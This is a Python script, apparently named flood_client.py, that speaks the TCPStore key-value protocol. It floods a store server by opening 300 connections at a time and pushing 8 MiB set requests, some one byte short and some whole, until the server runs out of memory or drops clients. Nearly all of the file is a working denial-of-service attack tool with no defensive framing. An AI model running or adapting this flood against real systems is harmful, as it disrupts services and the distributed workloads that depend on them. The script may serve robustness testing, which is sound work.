"""A client of the TCPStore protocol that sends as much as the server takes, and more.

    python3 flood_client.py HOST PORT

Floods the store until standard input ends: with values that are one byte short, then with whole
values, in turns. At the end it prints the number of bytes sent.
"""

import select
import socket
import struct
import sys
import time

MIB = 1 << 20
VALUE = 8 * MIB  # the largest value that a store takes
HANDSHAKE = b"\0" + struct.pack("<I", 0x3C85F7CE)
CLIENTS = 300
TURN_S = 5


def text(string):
    return struct.pack("<Q", len(string)) + string


def setting(key, value):
    return b"\1" + text(key) + text(value)


def getting(key):
    return b"\3" + text(key)


class FloodClient:
    """A client of the TCPStore protocol that sends as much as the server takes."""

    def __init__(self, address, unsent=b""):
        self.socket = socket.create_connection(address)
        # Keeps bytes that the server does not read in this process, not in the kernel.
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 128 << 10)
        self.socket.sendall(HANDSHAKE)
        self.unsent = memoryview(unsent)
        self.sent = 0

    def send_some(self):
        """Sends until the server takes no more for now, or has closed."""
        self.socket.setblocking(False)
        try:
            while self.sent < len(self.unsent):
                self.sent += self.socket.send(self.unsent[self.sent:])
        except (BlockingIOError, ConnectionError):
            pass

    def ask(self, request, size):
        """Sends the request and returns the next `size` bytes."""
        self.socket.setblocking(True)
        self.socket.sendall(request)
        answer = b""
        while len(answer) < size:
            piece = self.socket.recv(size - len(answer))
            if not piece:
                raise ConnectionError("the server has closed")
            answer += piece
        return answer


def flood(address, request):
    """One turn: every client sends the request as far as the server takes it, and stays
    connected. Returns the bytes sent, and whether standard input has ended."""
    clients = [FloodClient(address, request) for _ in range(CLIENTS)]
    unsent = {client.socket: client for client in clients}
    ends = time.monotonic() + TURN_S
    over = False
    while not over and (left := ends - time.monotonic()) > 0:
        over, ready, _ = select.select([sys.stdin], unsent, [], left)
        for client in [unsent[each] for each in ready]:
            before = client.sent
            client.send_some()
            # A writable client that sent nothing was closed by the server, which had no memory for
            # it for so long.
            if client.sent in (before, len(request)):
                del unsent[client.socket]
    for client in clients:
        client.socket.close()
    return sum(client.sent for client in clients), bool(over)


def main(host, port):
    value = setting(b"k", bytes(VALUE))
    total, over = 0, False
    while not over:
        for request in (value[:-1], 4 * value):
            sent, over = flood((host, int(port)), request)
            total += sent
            if over:
                break
    print(total)


if __name__ == "__main__":
    main(*sys.argv[1:])
